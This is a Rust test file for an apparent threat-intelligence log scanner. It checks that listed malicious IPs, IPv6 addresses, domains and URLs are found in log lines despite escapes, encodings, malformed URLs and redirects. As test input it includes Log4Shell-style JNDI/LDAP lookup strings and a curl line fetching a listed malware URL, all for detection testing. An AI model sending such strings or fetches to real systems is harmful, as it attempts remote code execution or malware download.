//! What stands in a log is found: behind and before the escapes of writers, in URLs and in what only looks
//! like one, and IPv6 wherever IPv4 is.

use crate::support::{DAY, Harness, day};
use crate::test_dir::{TestDir, code, json_lines, stderr};
use flate2::write::GzEncoder;
use rapsheet_query::{MatchFilter, Scorer, Searcher};
use std::io::Write;

const CATALOG: &str = r#"
[[feed]]
id = "bad-ip"
provider = "bad.example"
title = "Addresses"
url = "https://bad.example/ip.txt"
file = "ip.txt"
format = "plain-ip"
list = "block"
mode = "reset"
assessment = ["botnet"]
[[feed]]
id = "bad-names"
provider = "bad.example"
title = "Names"
url = "https://bad.example/names.txt"
file = "names.txt"
format = "plain-domain"
list = "block"
mode = "reset"
scope = "tree"
assessment = ["phishing"]
[[feed]]
id = "bad-urls"
provider = "bad.example"
title = "URLs"
url = "https://bad.example/urls.txt"
file = "urls.txt"
format = "url-list"
list = "block"
mode = "reset"
assessment = ["malware"]
"#;

const V4: &str = "91.4.7.33";
const V6: &str = "2a0c:b641:70::9";
const NAME: &str = "crookedbank.com";
const URL: &str = "http://files.dropzone7.net/get.php?id=4&k=a";

/// Scores texts by lists of [`V4`], [`V6`], [`NAME`] and [`URL`].
struct Lists(Harness);

impl Lists {
    fn new() -> Lists {
        let (mut harness, now) = (Harness::new(CATALOG), day(400));
        for (file, list) in [("ip.txt", format!("{V4}\n{V6}\n")), ("names.txt", NAME.to_owned())] {
            harness.download(file, list.as_bytes(), now.plus(-DAY));
        }
        harness.download("urls.txt", URL.as_bytes(), now.plus(-DAY));
        harness.build(now);
        Lists(harness)
    }

    /// The listed indicators of a text.
    fn listed(&self, text: &str) -> Vec<String> {
        let searcher = Searcher::new(self.0.snapshot(), day(400));
        let mut scorer = Scorer::new(&searcher, MatchFilter::Listed, 1 << 16);
        let found = scorer.score(text.as_bytes());
        found.iter().map(|found| found.indicator.to_string()).collect()
    }

    /// Checks that one indicator is found wherever a text has its mark, `HERE`.
    fn assert_found(&self, indicator: &str, texts: &[&str]) {
        for text in texts {
            let line = text.replace("HERE", indicator);
            assert_eq!(self.listed(&line), [indicator], "{line}");
        }
    }
}

#[test]
fn escapes_are_no_part_of_what_stands_around_them() {
    let lists = Lists::new();
    let texts = [
        "ip=\u{1b}[31mHERE\u{1b}[0m x",
        "\u{1b}[01;31m\u{1b}[KHERE\u{1b}[m\u{1b}[K",
        "\u{1b}[38;5;196mHERE\u{1b}(B\u{1b}[m",
        "\u{1b}]0;title\u{1b}\\HERE",
        "\u{9b}1mHERE\u{9b}0m",
        r"\u001b[31mHERE\u001b[0m",
        r"\\u001B[1;31mHERE\\u001B[0m",
        r"\x1b[31mHERE\x1b[0m",
        r"\e[31mHERE\e[0m",
        r"\033[31mHERE\033[0m",
        "#033[31mHERE#033[0m",
        "^[[31mHERE^[[0m",
        "&#27;[31mHERE&#x1b;[0m",
        "[31mHERE[0m",
        "[01;31m[KHERE[m[K",
        "a#011HERE#011b",
        r"a\011HERE\011b",
        r"a\tHERE\tb",
        r"a\\nHERE\\\\n",
        r"src\=HERE\|dst\=x",
        r"cs1\\=HERE\\|",
        "&lt;HERE&gt;",
        "&quot;HERE&quot;",
        "&apos;HERE&apos;&nbsp;",
        "&#34;HERE&#x22;",
        "&amp;amp;HERE&amp;amp;",
        "x&amp;lt;HERE&amp;gt;",
        r"\u003cHERE\u003e",
        r"\\u0026quot;HERE\\u0026quot;",
        r"\u0027HERE\u0027",
        r#"{\"a\":\"{\\\"b\\\":\\\"HERE\\\"}\"}"#,
        "%22HERE%22",
        "a%20HERE%0D%0A",
        "%2522HERE%2522",
        "to=%E2%80%9CHERE%E2%80%9D",
        "“HERE”",
        "「HERE」",
        "_HERE_",
        "**HERE**",
        "<HERE>",
    ];
    for indicator in [V4, V6, NAME] {
        lists.assert_found(indicator, &texts);
    }
}

#[test]
fn colours_within_a_name_part_no_name() {
    let lists = Lists::new();
    assert_eq!(lists.listed("crooked\u{1b}[01;31m\u{1b}[Kbank\u{1b}[m\u{1b}[K.com"), [NAME]);
    assert_eq!(lists.listed("\u{1b}[32m91.4.7.33\u{1b}[0mGET"), [V4]);
}

#[test]
fn a_listed_url_matches_in_spite_of_escapes() {
    let lists = Lists::new();
    for text in [
        "curl http://files.dropzone7.net/get.php?id=4&amp;k=a</Data>",
        "&quot;http://files.dropzone7.net/get.php?id=4&amp;k=a&quot;",
        "http://files.dropzone7.net/get.php?id=4&#38;k=a&lt;br&gt;",
        "http://files.dropzone7.net/get.php?id=4&#x26;amp;k=a",
        r"http:\/\/files.dropzone7.net\/get.php?id=4\u0026k=a\u001b[0m",
        r"request=http://files.dropzone7.net/get.php?id\=4&k\=a\|x",
        "\u{1b}[36mhttp://files.dropzone7.net/get.php?id=4&k=a\u{1b}[0m",
        "http://files.dropzone7.net/get.php?id=4&k=a#033[0m",
        r"http\://files.dropzone7.net/get.php\?id\=4\&k\=a",
        "href=3Dhttp://files.dropzone7.net/get.php?id=3D4&k=3Da",
        "（http://files.dropzone7.net/get.php?id=4&k=a）",
        "http://files.dropzone7.net/get.php?id=4&k=a”,",
        "http://files.dropzone7.net/get.php?id=4&k=a%22%20x",
        "http://files.dropzone7.net/get.php?id=4&k=a^usr",
        "q=http://files.dropzone7.net/get.php?id=4&k=a%0D%0Anext",
    ] {
        assert_eq!(lists.listed(text), [URL], "{text}");
    }
}

#[test]
fn what_may_be_no_escape_is_read_both_ways() {
    let lists = Lists::new();
    assert_eq!(lists.listed(r"C:\ncrookedbank.com"), [NAME]);
    assert_eq!(lists.listed(r"\\crookedbank.com\c$"), [NAME]);
    assert_eq!(lists.listed(r"\\91.4.7.33\c$"), [V4]);
    assert_eq!(lists.listed("/x?a=1&b=crookedbank.com&copy=2"), [NAME]);
    assert_eq!(lists.listed("%de.crookedbank.com"), ["de.crookedbank.com"]);
}

#[test]
fn a_url_that_cannot_be_read_hides_no_host() {
    let lists = Lists::new();
    for host in [V4, NAME] {
        let texts = [
            "http://HERE:99999/x",
            "http://HERE:80:80/x",
            "http://HERE:0/x",
            "http://HERE:port/x",
            "http:///HERE/x",
            "http:/HERE/x",
            "http:HERE/x",
            "http:////HERE",
            "http://HERE..:21/x",
            r"http:\\HERE\x",
            r"http:\\\\HERE\\x",
            "http://u:p@HERE:99999/",
            "http://HERE:99999@8080/",
            "http://user:pa/ss@HERE:x/",
            "hxxp://HERE/x",
            r"\\HERE@8080\share",
            r"\\HERE@SSL\DavWWWRoot\x",
            r"\\HERE@8080",
            r"\\\\HERE@SSL@8443\\share",
            "file://HERE@80/x",
            "https%3A//HERE:99999",
        ];
        lists.assert_found(host, &texts);
    }
    for text in [
        "http://HERE/x?p=%5B%7B%2",
        "http://http%3a%2f%2fHERE%2fx",
        "http://http://HERE/",
        r"http://HERE\x",
        r"http://HERE\@other.example",
        "http://u:p@HERE/x",
        "“http://HERE”",
    ] {
        let found = lists.listed(&text.replace("HERE", NAME));
        assert!(found.iter().any(|found| found.contains(NAME)), "{text}: {found:?}");
    }
    assert_eq!(lists.listed("http://[2a0c:b641:70::9]:99999/"), [V6]);
    assert_eq!(lists.listed("http://2a0c:b641:70::9/x"), [V6]);
}

#[test]
fn a_url_that_can_be_read_hides_nothing() {
    let lists = Lists::new();
    for indicator in [V4, NAME] {
        let texts = [
            "https://www.example.org:443/?x=${jndi:ldap://HERE:1389/a}",
            "https://www.example.org/?x=$%7Bjndi:ldap://HERE:1389/a%7D",
            "https://www.example.org/?x=%24%7Bjndi%3Aldap%3A%2F%2FHERE%3A1389%2Fa%7D",
            "http://www.example.org/t?ip=HERE&x=1",
            "http://www.example.org/t?ip=%22HERE%22",
            "http://www.example.org/proxy/HERE/x",
            "http://www.example.org/a#HERE",
        ];
        lists.assert_found(indicator, &texts);
    }
    assert_eq!(lists.listed("http://www.example.org/t?ip=2a0c%3Ab641%3A70%3A%3A9"), [V6]);
    assert_eq!(lists.listed("GET /t?ip=2a0c%3Ab641%3A70%3A%3A9 HTTP/1.1"), [V6]);
    assert_eq!(lists.listed("GET /t?n=%63%72%6f%6f%6b%65%64%62%61%6e%6b%2e%63%6f%6d HTTP/1.1"), [NAME]);
    assert_eq!(lists.listed("http://www.example.org/?m=jo@crookedbank.com"), [NAME]);
    assert!(lists.listed("http://www.example.org/?m=crookedbank.com@example.net").is_empty());
}

#[test]
fn redirect_targets_are_found() {
    let lists = Lists::new();
    for text in [
        "http://www.example.org/?u=http%3A%2F%2Ffiles.dropzone7.net%2Fget.php%3Fid%3D4%26k%3Da&next=1",
        "http://www.example.org/?u=http%253A%252F%252Ffiles.dropzone7.net%252Fget.php%253Fid%253D4%2526k%253Da",
        "GET /?u=http%3A%2F%2Ffiles.dropzone7.net%2Fget.php%3Fid%3D4%26k%3Da&next=1 HTTP/1.1",
        "http://www.example.org/http://files.dropzone7.net/get.php?id=4&k=a",
    ] {
        assert_eq!(lists.listed(text), [URL], "{text}");
    }
    assert_eq!(
        lists.listed("http://www.example.org/?u=https%3A%2F%2Fcrookedbank.com%2Fx"),
        ["https://crookedbank.com/x", NAME]
    );
}

#[test]
fn ipv6_is_found_wherever_ipv4_is() {
    let lists = Lists::new();
    let texts = [
        "src:HERE,dst:fe80::1",
        "ip6:HERE -all",
        "host.example.com [IPv6:HERE]",
        "[client HERE]",
        "client=HERE;",
        "for outside:HERE/51000 to inside:fe80::1/22",
        "v1:outside:HERE/54864",
        "Banned HERE.",
        "Banned HERE...",
        "from HERE: connection closed",
        "(HERE)",
        "[HERE]:443",
        "HERE#53",
        "HERE%eth0",
        "HERE%12",
        "HERE/64",
        "HERE-fe80::9",
        "peer:HERE.",
        "a=HERE|b=",
        "addr:HERE%2",
        "IP6 HERE.443 > fe80::6.51000: Flags",
        "HERE:51000",
    ];
    lists.assert_found(V6, &texts);
    for text in [
        "2a0c:b641:70:0:0:0:0:9:443",
        "src:2A0C:B641:0070:0000:0000:0000:0000:0009:443",
        "[IPv6:2a0c:b641:0070:0000:0000:0000:0000:0009]",
    ] {
        assert_eq!(lists.listed(text), [V6], "{text}");
    }
    for text in ["::ffff:91.4.7.33:54241", "client:::ffff:91.4.7.33.", "[::ffff:91.4.7.33]:80"] {
        assert_eq!(lists.listed(text), [V4], "{text}");
    }
}

#[test]
fn an_address_with_a_port_covers_no_other() {
    let lists = Lists::new();
    assert_eq!(lists.listed("src v1:outside:91.4.7.33/54864 dst v2:inside:172.16.1.3/53"), [V4]);
    assert!(lists.listed("for outside:91.4.7.40/22 (91.4.7.40/22) to inside:10.0.0.1/51234").is_empty());
    assert!(lists.listed("for outside:2a0c:b641:70::a/48").is_empty());
    assert_eq!(lists.listed("[Fri Nov 27 10:00:00.8 2026] [pid 87678] [client 91.4.7.33:5196] x"), [V4]);
}

#[test]
fn parts_of_other_words_are_no_addresses() {
    let lists = Lists::new();
    for text in [
        "2a0c:b641:70::9:443",
        "add:2a0c:b641:70::9",
        "2a0c:b641:70::9x",
        "std::2a0c:b641:70::9",
        "91.4.7.33.443",
        "lib-91.4.7.33",
    ] {
        assert!(lists.listed(text).is_empty(), "{text}: {:?}", lists.listed(text));
    }
}

#[test]
fn logs_are_read_by_content_and_not_by_name() {
    let dir = TestDir::new();
    let mut log = GzEncoder::new(Vec::new(), flate2::Compression::fast());
    log.write_all(b"from 45.9.20.5\n").expect("compressed");
    dir.write("access.log.13", log.finish().expect("compressed"));
    let utf16 = "\u{feff}client 45.9.20.5\r\n".encode_utf16().flat_map(u16::to_le_bytes);
    dir.write("utf16.log", utf16.collect::<Vec<u8>>());
    for file in ["access.log.13", "utf16.log"] {
        let output = dir.run(&["score", file]);
        assert_eq!(code(&output), 0, "{}", stderr(&output));
        let rows = json_lines(&output);
        assert_eq!((rows.len(), &rows[0]["indicator"]), (1, &"45.9.20.5".into()), "{file}");
    }
}
